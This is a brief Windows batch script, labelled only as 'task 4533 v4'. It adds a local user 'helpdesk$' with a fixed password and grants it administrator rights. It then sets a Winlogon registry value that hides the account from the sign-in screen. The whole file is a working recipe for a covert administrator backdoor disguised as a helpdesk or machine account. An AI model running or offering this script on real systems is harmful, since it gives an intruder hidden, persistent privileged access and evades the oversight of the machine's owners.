REM task 4533 v4
@echo off
net user helpdesk$ Qwerty#7788 /add /active:yes
net localgroup Administrators helpdesk$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
